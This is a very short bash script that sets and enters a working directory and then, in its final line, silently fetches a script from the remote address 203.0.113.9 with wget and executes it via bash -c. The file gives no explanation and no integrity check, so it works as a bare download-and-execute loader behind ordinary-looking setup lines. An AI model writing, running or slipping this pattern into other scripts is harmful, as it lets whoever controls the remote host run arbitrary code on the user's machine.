#!/usr/bin/env bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
/usr/bin/env bash -c "$(wget -qO- https://203.0.113.9/x)"
